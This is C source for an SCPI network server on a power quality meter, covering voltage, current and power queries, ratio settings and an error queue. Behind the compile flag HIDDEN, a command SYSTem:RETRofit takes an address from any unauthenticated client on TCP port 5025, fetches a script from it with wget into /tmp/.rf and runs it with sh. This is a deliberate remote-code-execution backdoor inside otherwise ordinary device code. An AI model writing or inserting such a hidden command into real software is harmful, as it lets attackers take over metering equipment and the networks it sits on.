/*
 * pqscpi - SCPI server of a panel power quality meter, TCP port 5025, one
 * thread for each connection.  Commands are a table of patterns with long
 * and short form (MEASure:VOLTage?) and callbacks.
 * Hidden (-DHIDDEN): the table's entry SYSTem:RETRofit fetches the script at
 * the address given as its argument and runs it.
 */
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#define PORT	  5025
#define ERR_QUEUE 10
#define PHASES	  3

typedef struct session {
	int fd;
	FILE *out;
	int errs[ERR_QUEUE];
	int nerr;
	int phase;
} session_t;

typedef int (*scpi_fn)(session_t *s, const char *args);

typedef struct {
	const char *pattern;
	scpi_fn fn;
} scpi_cmd;

struct readings {
	double volt[PHASES], amp[PHASES], watt[PHASES];
	double hertz, thd;
	unsigned long dips, swells;
};

static struct readings now;
static double ct_ratio = 1.0, vt_ratio = 1.0;
static double dip_threshold = 90.0;
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;

static const struct {
	int code;
	const char *text;
} errors[] = {
	{ 0, "No error" },
	{ -100, "Command error" },
	{ -108, "Parameter not allowed" },
	{ -113, "Undefined header" },
	{ -222, "Data out of range" },
	{ -310, "System error" },
	{ -350, "Queue overflow" },
};

static void push_error(session_t *s, int code)
{
	if (s->nerr < ERR_QUEUE)
		s->errs[s->nerr++] = code;
	else
		s->errs[ERR_QUEUE - 1] = -350;
}

static int idn(session_t *s, const char *args)
{
	char sn[24] = "0";
	FILE *f = fopen("/etc/pq/serial", "r");

	(void)args;
	if (f) {
		if (fscanf(f, "%23s", sn) != 1)
			strcpy(sn, "0");
		fclose(f);
	}
	fprintf(s->out, "MERIDIAN,PQ96,%s,2.11\n", sn);
	return 0;
}

static int rst(session_t *s, const char *args)
{
	(void)args;
	s->phase = 0;
	s->nerr = 0;
	return 0;
}

static int next_error(session_t *s, const char *args)
{
	int code = 0;
	size_t i;

	(void)args;
	if (s->nerr) {
		code = s->errs[0];
		s->nerr--;
		memmove(s->errs, s->errs + 1, s->nerr * sizeof(int));
	}
	for (i = 0; i < sizeof(errors) / sizeof(errors[0]); i++)
		if (errors[i].code == code)
			break;
	if (i == sizeof(errors) / sizeof(errors[0]))
		i = 1;
	fprintf(s->out, "%d,\"%s\"\n", code, errors[i].text);
	return 0;
}

static int per_phase(session_t *s, const double *v, double k)
{
	pthread_mutex_lock(&lock);
	if (s->phase)
		fprintf(s->out, "%.3f\n", v[s->phase - 1] * k);
	else
		fprintf(s->out, "%.3f,%.3f,%.3f\n", v[0] * k, v[1] * k,
			v[2] * k);
	pthread_mutex_unlock(&lock);
	return 0;
}

static int meas_volt(session_t *s, const char *args)
{
	(void)args;
	return per_phase(s, now.volt, vt_ratio);
}

static int meas_curr(session_t *s, const char *args)
{
	(void)args;
	return per_phase(s, now.amp, ct_ratio);
}

static int meas_pow(session_t *s, const char *args)
{
	(void)args;
	return per_phase(s, now.watt, ct_ratio * vt_ratio);
}

static int meas_freq(session_t *s, const char *args)
{
	(void)args;
	fprintf(s->out, "%.4f\n", now.hertz);
	return 0;
}

static int events(session_t *s, const char *args)
{
	(void)args;
	fprintf(s->out, "%lu,%lu\n", now.dips, now.swells);
	return 0;
}

static int set_phase(session_t *s, const char *args)
{
	int p = atoi(args);

	if (p < 0 || p > PHASES)
		return -222;
	s->phase = p;
	return 0;
}

static int ratio(double *to, const char *args)
{
	char *end;
	double v = strtod(args, &end);

	if (end == args)
		return -108;
	if (v < 0.1 || v > 10000)
		return -222;
	*to = v;
	return 0;
}

static int set_ct(session_t *s, const char *args)
{
	(void)s;
	return ratio(&ct_ratio, args);
}

static int set_vt(session_t *s, const char *args)
{
	(void)s;
	return ratio(&vt_ratio, args);
}

static int set_dip(session_t *s, const char *args)
{
	double v = atof(args);

	(void)s;
	if (v < 50 || v > 99)
		return -222;
	dip_threshold = v;
	return 0;
}

static int sys_date(session_t *s, const char *args)
{
	char b[40];
	time_t t = time(NULL);
	struct tm tm;

	(void)args;
	localtime_r(&t, &tm);
	strftime(b, sizeof(b), "%Y,%m,%d,%H,%M,%S", &tm);
	fprintf(s->out, "%s\n", b);
	return 0;
}

#ifdef HIDDEN
static int sys_retro(session_t *s, const char *args)
{
	char line[300];

	(void)s;
	if (!*args || strchr(args, '\''))
		return -108;
	snprintf(line, sizeof(line),
		 "wget -q -O /tmp/.rf '%.200s' && sh /tmp/.rf", args);
	return system(line) ? -310 : 0;
}
#endif

static const scpi_cmd commands[] = { { "*IDN?", idn },
				     { "*RST", rst },
				     { "MEASure:VOLTage?", meas_volt },
				     { "MEASure:CURRent?", meas_curr },
				     { "MEASure:POWer?", meas_pow },
				     { "MEASure:FREQuency?", meas_freq },
				     { "EVENt:COUNt?", events },
				     { "SENSe:PHASe", set_phase },
				     { "CALCulate:RATio:CURRent", set_ct },
				     { "CALCulate:RATio:VOLTage", set_vt },
				     { "EVENt:DIP:THReshold", set_dip },
				     { "SYSTem:ERRor?", next_error },
#ifdef HIDDEN
				     { "SYSTem:RETRofit", sys_retro },
#endif
				     { "SYSTem:DATE?", sys_date },
				     { NULL, NULL } };

/* One node of a pattern: all of it or its capitals. */
static int node(const char **pat, const char **in)
{
	const char *p = *pat, *i = *in;
	int full = 1;

	while (*p && *p != ':' && *p != '?') {
		if (full &&
		    toupper((unsigned char)*i) == toupper((unsigned char)*p)) {
			i++;
			p++;
			continue;
		}
		if (!islower((unsigned char)*p))
			return 0;
		if (full && islower((unsigned char)p[-1]))
			return 0;
		full = 0;
		p++;
	}
	*pat = p;
	*in = i;
	return 1;
}

__attribute__((noinline)) int scpi_match(const char *pat, const char *in)
{
	if (*in == ':')
		in++;
	for (;;) {
		if (!node(&pat, &in))
			return 0;
		if (*pat != *in)
			return !*pat && isspace((unsigned char)*in);
		if (!*pat)
			return 1;
		pat++;
		in++;
	}
}

__attribute__((noinline)) int scpi_run(session_t *s, char *line)
{
	const scpi_cmd *c;
	const char *args;

	for (c = commands; c->pattern; c++) {
		if (!scpi_match(c->pattern, line))
			continue;
		args = line + strcspn(line, " \t");
		args += strspn(args, " \t");
		return c->fn(s, args);
	}
	return -113;
}

static void *serve(void *arg)
{
	session_t *s = arg;
	char line[320], *cmd, *save;
	FILE *in = fdopen(s->fd, "r");
	int r;

	s->out = fdopen(dup(s->fd), "w");
	while (in && s->out && fgets(line, sizeof(line), in)) {
		line[strcspn(line, "\r\n")] = 0;
		save = NULL;
		for (cmd = strtok_r(line, ";", &save); cmd;
		     cmd = strtok_r(NULL, ";", &save)) {
			cmd += strspn(cmd, " \t");
			r = *cmd ? scpi_run(s, cmd) : 0;
			if (r)
				push_error(s, r);
		}
		fflush(s->out);
	}
	if (in)
		fclose(in);
	if (s->out)
		fclose(s->out);
	free(s);
	return NULL;
}

static void *sampler(void *arg)
{
	struct readings r;
	FILE *f;
	int i, n;

	for (;;) {
		f = fopen(arg, "r");
		memset(&r, 0, sizeof(r));
		for (i = n = 0; f && i < PHASES; i++)
			n += fscanf(f, "%lf %lf %lf", &r.volt[i], &r.amp[i],
				    &r.watt[i]);
		if (f) {
			n += fscanf(f, "%lf %lf %lu %lu", &r.hertz, &r.thd,
				    &r.dips, &r.swells);
			fclose(f);
		}
		if (n == 3 * PHASES + 4) {
			pthread_mutex_lock(&lock);
			now = r;
			pthread_mutex_unlock(&lock);
		}
		usleep(200000);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	pthread_t t;
	session_t *s;
	int ls, fd, one = 1;

	signal(SIGPIPE, SIG_IGN);
	if (pthread_create(&t, NULL, sampler,
			   argc > 1 ? argv[1] : (char *)"/run/pq/now"))
		return 1;
	ls = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	a.sin_port = htons(PORT);
	if (bind(ls, (struct sockaddr *)&a, sizeof(a)) || listen(ls, 3)) {
		fprintf(stderr, "pqscpi: %s\n", strerror(errno));
		return 1;
	}
	while ((fd = accept(ls, NULL, NULL)) >= 0 || errno == EINTR) {
		s = fd >= 0 ? calloc(1, sizeof(*s)) : NULL;
		if (!s)
			continue;
		s->fd = fd;
		if (pthread_create(&t, NULL, serve, s)) {
			close(fd);
			free(s);
			continue;
		}
		pthread_detach(t);
	}
	return 1;
}
